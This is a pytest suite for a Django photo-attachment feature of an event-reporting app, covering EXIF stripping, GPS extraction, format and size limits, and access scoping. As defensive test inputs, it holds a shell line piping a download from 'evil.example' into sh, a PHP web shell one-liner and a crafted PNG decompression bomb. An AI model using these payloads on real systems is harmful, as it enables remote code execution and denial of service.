"""Photos: checked by content, cleaned of EXIF, facts kept, scoped like their event."""

from __future__ import annotations

import hashlib
import io
import struct
import uuid
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from pingan.core.errors import Conflict, Invalid, NotFound
from pingan.core.models import AuditEntry
from pingan.events.attachments import attachment_add, attachment_list
from pingan.events.models import Attachment
from pingan.events.services import event_report, event_transition

GPS_IFD = 0x8825
EXIF_IFD = 0x8769


def jpeg(size=(400, 300), *, gps=True, orientation=None, taken="2026:03:02 09:15:30") -> bytes:
    """A JPEG as a phone writes it: camera make, time taken, GPS, maybe an orientation."""
    img = Image.new("RGB", size, (200, 50, 50))
    exif = Image.Exif()
    exif[0x010F] = "TestCam"
    if orientation:
        exif[0x0112] = orientation
    if taken:
        exif[EXIF_IFD] = {0x9003: taken, 0x9011: "+08:00"}
    if gps:
        # 30°31'30" N, 120°56'42" E: inside grid A1 of the cast.
        exif[GPS_IFD] = {1: "N", 2: (30.0, 31.0, 30.0), 3: "E", 4: (120.0, 56.0, 42.0)}
    buf = io.BytesIO()
    img.save(buf, "JPEG", exif=exif)
    return buf.getvalue()


def upload(data: bytes, name: str = "IMG_0001.jpg", content_type: str = "image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.fixture
def event(cast):
    lat, lng = cast.point_a1
    e, _ = event_report(
        actor=cast.gridworker,
        category=cast.neighbour.pk,
        description="楼道堆放杂物",
        lat=lat,
        lng=lng,
    )
    return e


def test_gps_photo_is_stored_without_exif_and_keeps_time_and_place(cast, event, settings):
    att, created = attachment_add(
        actor=cast.gridworker, event_id=event.pk, upload=upload(jpeg()), kind="report"
    )

    assert created
    att.refresh_from_db()
    assert att.lat == pytest.approx(30.525)
    assert att.lng == pytest.approx(120.945)
    assert att.taken_at.utctimetuple()[:6] == (2026, 3, 2, 1, 15, 30)
    with att.file.open("rb") as f:
        data = f.read()
    stored = Image.open(io.BytesIO(data))
    assert stored.format == "JPEG"
    assert dict(stored.getexif()) == {}
    assert stored.getexif().get_ifd(GPS_IFD) == {}
    assert b"Exif" not in data and b"TestCam" not in data
    assert (att.width, att.height) == stored.size == (400, 300)
    assert att.size == len(data)
    assert att.sha256 == hashlib.sha256(data).hexdigest()
    assert att.file.name.endswith(".jpg") and "IMG_0001" not in att.file.name
    with att.thumbnail.open("rb") as f:
        thumb = Image.open(io.BytesIO(f.read()))
    assert max(thumb.size) == settings.PINGAN_THUMB_SIDE
    assert dict(thumb.getexif()) == {}
    assert AuditEntry.objects.filter(action="attachment.add", object_id=str(event.pk)).count() == 1


def test_exif_orientation_is_applied(cast, event):
    att, _ = attachment_add(
        actor=cast.gridworker, event_id=event.pk, upload=upload(jpeg((400, 300), orientation=6))
    )
    # Orientation 6 means "rotate 90° clockwise to view": the stored photo stands upright.
    assert (att.width, att.height) == (300, 400)


def test_photo_without_exif_has_no_time_or_place(cast, event):
    att, _ = attachment_add(
        actor=cast.gridworker, event_id=event.pk, upload=upload(jpeg(gps=False, taken=None))
    )
    assert (att.taken_at, att.lat, att.lng) == (None, None, None)


def test_long_side_is_capped_and_png_with_alpha_becomes_jpeg(cast, event, settings):
    settings.PINGAN_PHOTO_MAX_SIDE = 200
    img = Image.new("RGBA", (800, 600), (0, 128, 0, 128))
    buf = io.BytesIO()
    img.save(buf, "PNG")

    att, _ = attachment_add(
        actor=cast.gridworker, event_id=event.pk, upload=upload(buf.getvalue(), "a.png")
    )

    assert (att.width, att.height) == (200, 150)
    with att.file.open("rb") as f:
        assert Image.open(f).format == "JPEG"


def test_webp_is_accepted(cast, event):
    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 20, 30)).save(buf, "WEBP")
    att, _ = attachment_add(
        actor=cast.gridworker, event_id=event.pk, upload=upload(buf.getvalue(), "x.webp")
    )
    assert (att.width, att.height) == (64, 48)


def test_multi_picture_jpeg_from_a_phone_is_accepted(cast, event):
    buf = io.BytesIO()
    first, second = Image.new("RGB", (300, 200), "red"), Image.new("RGB", (150, 100), "blue")
    first.save(buf, "MPO", save_all=True, append_images=[second])
    att, _ = attachment_add(
        actor=cast.gridworker, event_id=event.pk, upload=upload(buf.getvalue(), "p.jpg")
    )
    assert (att.width, att.height) == (300, 200)


@pytest.mark.parametrize(
    "data",
    [
        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
        b"<?php system($_GET['c']); ?>",
        b"GIF89a" + b"\x00" * 40,  # a real image format, but not one we accept
        jpeg()[:200],  # a truncated photo
    ],
    ids=["shell", "php", "gif", "truncated"],
)
def test_non_photo_named_jpg_is_refused_and_nothing_written(cast, event, settings, data):
    with pytest.raises(Invalid) as err:
        attachment_add(actor=cast.gridworker, event_id=event.pk, upload=upload(data, "photo.jpg"))
    assert "照片" in err.value.fields["file"]
    assert Attachment.objects.count() == 0
    assert stored_files(settings) == []
    assert not AuditEntry.objects.filter(action="attachment.add").exists()


def test_oversize_photo_is_refused(cast, event, settings):
    data = jpeg()
    settings.PINGAN_PHOTO_MAX_BYTES = len(data) - 1
    with pytest.raises(Invalid) as err:
        attachment_add(actor=cast.gridworker, event_id=event.pk, upload=upload(data))
    assert "不能超过" in err.value.fields["file"]
    assert Attachment.objects.count() == 0
    assert stored_files(settings) == []


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def test_decompression_bomb_is_refused_before_decoding(cast, event, settings):
    # A few hundred bytes that claim 30000 × 30000 pixels (900 million).
    ihdr = struct.pack(">IIBBBBB", 30000, 30000, 8, 0, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 30001))
        + _png_chunk(b"IEND", b"")
    )
    with pytest.raises(Invalid) as err:
        attachment_add(actor=cast.gridworker, event_id=event.pk, upload=upload(bomb, "b.png"))
    assert "像素过大" in err.value.fields["file"]
    assert stored_files(settings) == []


def test_user_out_of_scope_gets_404(cast, event, settings):
    with pytest.raises(NotFound):
        attachment_add(actor=cast.dispatcher_b, event_id=event.pk, upload=upload(jpeg()))
    with pytest.raises(NotFound):
        attachment_list(user=cast.gridworker_b, event_id=event.pk)
    assert stored_files(settings) == []


def test_same_client_uuid_returns_the_first_photo(cast, event):
    cu = uuid.uuid4()
    first, created = attachment_add(
        actor=cast.gridworker, event_id=event.pk, upload=upload(jpeg()), client_uuid=cu
    )
    again, created_again = attachment_add(
        actor=cast.gridworker, event_id=event.pk, upload=upload(jpeg()), client_uuid=str(cu)
    )
    assert created and not created_again
    assert again.pk == first.pk
    assert Attachment.objects.count() == 1
    # Someone else reusing the uuid is a conflict, not a way to read the first photo.
    with pytest.raises(Conflict):
        attachment_add(
            actor=cast.dispatcher, event_id=event.pk, upload=upload(jpeg()), client_uuid=cu
        )


def test_rejected_event_takes_no_more_photos(cast, event):
    event_transition(
        actor=cast.dispatcher, event_id=event.pk, action="reject", payload={"note": "重复上报"}
    )
    with pytest.raises(Conflict):
        attachment_add(actor=cast.gridworker, event_id=event.pk, upload=upload(jpeg()))


def test_unknown_kind_is_invalid(cast, event):
    with pytest.raises(Invalid) as err:
        attachment_add(actor=cast.gridworker, event_id=event.pk, upload=upload(jpeg()), kind="x")
    assert "kind" in err.value.fields


def test_department_sees_the_photos_once_dispatched(cast, event):
    attachment_add(actor=cast.gridworker, event_id=event.pk, upload=upload(jpeg()))
    with pytest.raises(NotFound):
        attachment_list(user=cast.handler, event_id=event.pk)
    event_transition(actor=cast.dispatcher, event_id=event.pk, action="accept")
    event_transition(
        actor=cast.dispatcher,
        event_id=event.pk,
        action="dispatch",
        payload={"lead_department": cast.police.pk},
    )
    assert len(attachment_list(user=cast.handler, event_id=event.pk)) == 1


# ---- through the API ------------------------------------------------------------------


def test_upload_through_the_api(cast, event, client):
    from pingan.accounts.services import token_issue

    token = token_issue(user=cast.gridworker)
    auth = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    url = f"/api/v1/events/{event.pk}/attachments"
    cu = str(uuid.uuid4())

    r = client.post(url, {"file": upload(jpeg()), "kind": "report", "client_uuid": cu}, **auth)
    assert r.status_code == 201, r.content
    body = r.json()
    assert body["kind"] == "report"
    assert body["lat"] == pytest.approx(30.525) and body["lng"] == pytest.approx(120.945)
    assert body["taken_at"].startswith("2026-03-02T")
    assert (body["width"], body["height"]) == (400, 300)
    assert body["url"].endswith(f"/attachments/{body['id']}/file")
    assert body["thumbnail_url"].endswith("/file?thumb=true")

    again = client.post(url, {"file": upload(jpeg()), "client_uuid": cu}, **auth)
    assert again.status_code == 200 and again.json()["id"] == body["id"]

    bad = client.post(url, {"file": upload(b"#!/bin/sh\n", "x.jpg")}, **auth)
    assert bad.status_code == 422
    assert "file" in bad.json()["error"]["fields"]

    listed = client.get(url, **auth)
    assert listed.status_code == 200
    assert [a["id"] for a in listed.json()] == [body["id"]]

    other = token_issue(user=cast.gridworker_b)
    r = client.get(url, HTTP_AUTHORIZATION=f"Bearer {other}")
    assert r.status_code == 404
    assert client.get(url).status_code == 401
